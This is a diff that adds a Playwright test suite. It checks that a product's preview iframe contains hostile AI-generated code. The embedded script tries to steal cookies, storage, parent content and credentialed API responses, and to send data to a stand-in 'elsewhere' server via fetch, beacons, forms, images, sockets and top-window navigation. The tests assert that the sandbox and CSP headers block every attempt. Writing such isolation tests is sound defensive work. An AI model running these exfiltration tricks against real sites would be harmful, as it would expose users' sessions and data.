@@ -1,0 +1,248 @@
+"""Generated code that means harm, in the preview: it reaches nothing, from the frame or from a window of its own."""
+
+import asyncio
+from collections.abc import AsyncGenerator
+from contextlib import asynccontextmanager
+
+import pytest
+from playwright.async_api import Browser, Frame, Page
+
+from tests.support.cuttable import Cuttable
+from tests.support.listening import listening
+from tests.support.people import Visitor
+from tests.support.product import Product
+from tests.support.typist import Typist
+
+pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]
+
+HOSTILE = """<!doctype html><body><h1>Hostile</h1><script>
+const failing = (target, good, bad) => new Promise((ok, no) => {
+  target[good] = () => ok("reached");
+  target[bad] = () => no(new Error("blocked"));
+});
+const fresh = () => document.body.appendChild(document.createElement("iframe")).contentWindow;
+const getter = (type, name, target) => Object.getOwnPropertyDescriptor(type.prototype ?? type, name).get.call(target);
+const tries = (here, there) => ({
+  cookie: () => getter(Document, "cookie", document),
+  storageOfAFreshFrame: () => fresh().localStorage.getItem("secret"),
+  database: () => new Promise((ok, no) => {
+    const opening = indexedDB.open("x");
+    opening.onsuccess = ok;
+    opening.onerror = no;
+  }),
+  parentDocument: () => parent.document.body.innerHTML,
+  parentStorage: () => parent.localStorage.getItem("secret"),
+  parentCookie: () => parent.document.cookie,
+  parentScript: () => parent.eval("1"),
+  topAddress: () => top.location.href,
+  api: () => fetch(`${here}/api/projects?stolen`, { credentials: "include" }),
+  apiBlind: () => fetch(`${here}/api/auth/logout?stolen`, { method: "POST", mode: "no-cors", credentials: "include" }),
+  fetchOfAFreshFrame: () => fresh().fetch(`${there}/stolen`, { mode: "no-cors" }),
+  request: () => { const r = new XMLHttpRequest(); r.open("GET", `${here}/stolen`, false); r.send(); },
+  image: () => { const i = new Image(); i.src = `${there}/stolen`; return failing(i, "onload", "onerror"); },
+  script: () => {
+    const s = document.createElement("script");
+    s.src = `${there}/stolen`;
+    document.head.append(s);
+    return failing(s, "onload", "onerror");
+  },
+  socket: () => {
+    const address = here.replace("http", "ws");
+    return failing(new WebSocket(`${address}/_nicegui_ws/socket.io/?stolen`), "onopen", "onerror");
+  },
+  events: () => failing(new EventSource(`${there}/stolen`), "onopen", "onerror"),
+  worker: () => failing(new Worker(URL.createObjectURL(new Blob([`postMessage(1)`]))), "onmessage", "onerror"),
+  window: () => { if (!window.open(`${there}/stolen`)) throw new Error("blocked"); },
+});
+// What says nothing of its success: the addresses and the servers tell.
+const silently = (here, there) => {
+  const form = document.createElement("form");
+  Object.assign(form, { action: `${there}/stolen`, method: "post", target: "_top" });
+  const button = document.createElement("button");
+  button.addEventListener("click", (event) => event.stopImmediatePropagation());
+  form.append(button);
+  const link = Object.assign(document.createElement("a"), { href: `${there}/stolen`, target: "_top" });
+  link.addEventListener("click", (event) => event.stopImmediatePropagation());
+  const ping = Object.assign(document.createElement("a"), { href: "#", ping: `${there}/stolen` });
+  const style = document.createElement("style");
+  style.textContent = `@import "${there}/stolen"; body { background: url(${there}/stolen) }`;
+  const prefetch = Object.assign(document.createElement("link"), { rel: "prefetch", href: `${there}/stolen` });
+  const child = Object.assign(document.createElement("iframe"), { src: `${there}/stolen` });
+  const object = Object.assign(document.createElement("object"), { data: `${there}/stolen` });
+  document.body.append(form, link, ping, style, prefetch, child, object);
+  for (const act of [
+    () => navigator.sendBeacon(`${there}/stolen`),
+    () => button.click(),
+    () => link.click(),
+    () => ping.click(),
+    () => (top.location = `${there}/stolen`),
+    () => top.history.back(),
+    () => top.close(),
+    () => open(`${there}/stolen`, "_top"),
+  ]) try { act(); } catch {}
+};
+const reached = async (here, there, but = "none") => {
+  const found = [];
+  for (const [name, act] of Object.entries(tries(here, there)))
+    if (!name.match(but)) try { await act(); found.push(name); } catch {}
+  return found;
+};
+</script>"""
+ANSWER = f"### FILE: index.html\n```html\n{HOSTILE}\n```\n"
+
+
+class Wire(Cuttable):
+    """A line to the product that remembers what was asked over it."""
+
+    def __init__(self, target: str) -> None:
+        super().__init__(target, {})
+        self.heard = b""
+
+    async def _up(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        while data := await reader.read(65536):
+            self.heard += data
+            writer.write(data)
+            await writer.drain()
+
+
+class Elsewhere:
+    """Another server, which must not be asked anything."""
+
+    def __init__(self) -> None:
+        self.heard: list[bytes] = []
+
+    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        """Remember a request, and answer it."""
+        try:
+            if line := await reader.readline():
+                self.heard.append(line)
+                writer.write(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n")
+        finally:
+            writer.close()
+            await writer.wait_closed()
+
+
+@asynccontextmanager
+async def scene(
+    chromium: Browser, product: Product, typist: Typist, name: str
+) -> AsyncGenerator[tuple[Visitor, Wire, Elsewhere, str], None]:
+    """Somebody who looks at a hostile preview, what the product heard, another server with its address."""
+    wire, elsewhere = Wire(product.url), Elsewhere()
+    async with listening(wire.serve) as here, listening(elsewhere.serve) as there:
+        visitor = await Visitor.arrive(chromium, here)
+        try:
+            await visitor.register(name)
+            await visitor.page.evaluate("localStorage.setItem('secret', 'mine')")
+            await visitor.create()
+            await visitor.press("Generate Frontend (Live)")
+            typist.write(ANSWER)
+            typist.finish()
+            await visitor.until_code(ANSWER, "frontend")
+            await visitor.press("Preview")
+            await shown(visitor)
+            yield visitor, wire, elsewhere, there
+        finally:
+            await visitor.context.close()
+
+
+def inside(visitor: Visitor) -> Frame:
+    """The preview's frame."""
+    return next(each for each in visitor.page.frames if "/preview/" in each.url)
+
+
+async def shown(visitor: Visitor) -> None:
+    """The page is in its frame, or will be in a moment."""
+    await visitor.page.frame_locator("iframe").get_by_role("heading", name="Hostile").wait_for()
+
+
+async def settled(page: Page) -> None:
+    """Whatever was about to be asked has been, or will not be."""
+    await page.wait_for_timeout(1500)
+
+
+async def test_code_in_the_frame_reaches_nothing(chromium: Browser, product: Product, typist: Typist) -> None:
+    async with scene(chromium, product, typist, "hostile-frame") as (visitor, wire, elsewhere, there):
+        before = visitor.page.url
+        assert await inside(visitor).evaluate("([here, there]) => reached(here, there)", [visitor.url, there]) == []
+        await inside(visitor).evaluate("([here, there]) => silently(here, there)", [visitor.url, there])
+        await settled(visitor.page)
+        assert elsewhere.heard == []
+        assert b"stolen" not in wire.heard
+        assert visitor.page.url == before
+        assert len(visitor.context.pages) == 1
+        await visitor.page.reload()
+        assert visitor.page.url == before, "he is still signed in"
+
+
+async def test_a_frame_that_leaves_gets_nowhere(chromium: Browser, product: Product, typist: Typist) -> None:
+    async with scene(chromium, product, typist, "hostile-leaver") as (visitor, wire, elsewhere, there):
+        for address in (f"{there}/stolen", f"{visitor.url}/api/stolen", f"{visitor.url}/login?stolen"):
+            await visitor.press("Reload")
+            await shown(visitor)
+            await inside(visitor).evaluate("(address) => void (location.href = address)", address)
+            await settled(visitor.page)
+        assert elsewhere.heard == []
+        assert b"stolen" not in wire.heard
+        await visitor.press("Reload")
+        await shown(visitor)
+        await inside(visitor).evaluate("void (location.href = '/preview/0')")  # no cookie goes along, and none comes
+        await settled(visitor.page)
+        await visitor.page.reload()
+        assert "/projects/" in visitor.page.url, "he is still signed in"
+
+
+async def test_opened_by_itself_it_is_shut_in_as_well(chromium: Browser, product: Product, typist: Typist) -> None:
+    async with scene(chromium, product, typist, "hostile-window") as (visitor, wire, elsewhere, there):
+        address = inside(visitor).url
+        page = await visitor.context.new_page()
+        await page.goto(address)
+        assert await page.evaluate("self.origin") == "null"
+        tries = "([here, there]) => reached(here, there, '^(parent|top)')"
+        assert await page.evaluate(tries, [visitor.url, there]) == []
+        await settled(page)
+        assert elsewhere.heard == []
+        assert b"?stolen" not in wire.heard
+
+
+async def test_others_see_no_more_than_of_a_run_that_is_not_there(
+    chromium: Browser, product: Product, typist: Typist
+) -> None:
+    async with scene(chromium, product, typist, "hostile-owner") as (visitor, _, _, _):
+        address = inside(visitor).url.replace(visitor.url, "")
+        other = await Visitor.arrive(chromium, product.url)
+        nobody = await other.page.request.get(product.url + address)
+        await other.register("hostile-eve")
+        eve = await other.page.request.get(product.url + address)
+        absent = await other.page.request.get(f"{product.url}/preview/0")
+        assert [each.status for each in (nobody, eve, absent)] == [404, 404, 404]
+        assert await nobody.text() == await eve.text() == await absent.text()
+        own = await visitor.page.request.get(visitor.url + address)
+        assert own.status == 200
+        assert own.headers["content-security-policy"].startswith("sandbox allow-scripts; default-src 'none';")
+        assert own.headers["cache-control"] == "no-store"
+        assert own.headers["referrer-policy"] == "no-referrer"
+        assert own.headers["x-content-type-options"] == "nosniff"
+        assert await visitor.page.locator("iframe").get_attribute("sandbox") == "allow-scripts"
+        await other.context.close()
+
+
+async def test_only_the_frame_is_listened_to_and_not_without_end(
+    chromium: Browser, product: Product, typist: Typist
+) -> None:
+    async with scene(chromium, product, typist, "hostile-talker") as (visitor, _, _, _):
+        await visitor.page.evaluate("postMessage({livewright: 'error', text: 'from elsewhere', where: ''}, '*')")
+        flood = "for (let i = 0; i < 5000; i++) parent.postMessage({...said, text: 'x'.repeat(9e3)}, '*')"
+        await inside(visitor).evaluate(
+            "() => { for (const bad of [null, 1, {}, {livewright: 'error', text: {}, where: ''},"
+            " {livewright: '__proto__', text: 'odd', where: ''}]) parent.postMessage(bad, '*'); }"
+        )
+        await inside(visitor).evaluate(f"() => {{ const said = {{livewright: 'error', where: ''}}; {flood} }}")
+        strip = visitor.page.locator(".lw-console")
+        await strip.get_by_role("button", name="Console").click()
+        await strip.get_by_text("More was said").wait_for()
+        lines = await strip.locator(".error").all_inner_texts()
+        assert len(lines) < 200
+        assert max(map(len, lines)) <= 500
+        text = await strip.inner_text()
+        assert "from elsewhere" not in text
+        assert "odd" not in text
